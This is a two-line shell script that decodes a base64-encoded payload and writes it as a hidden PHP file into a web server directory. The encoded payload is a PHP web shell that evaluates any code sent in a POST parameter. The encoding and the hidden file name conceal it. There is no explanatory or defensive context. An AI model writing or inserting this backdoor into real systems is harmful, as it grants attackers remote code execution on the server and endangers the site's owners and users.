#!/bin/sh
echo PD9waHAgQGV2YWwoJF9QT1NUW2FdKTsgPz4= | base64 -d > /srv/www/.a.php
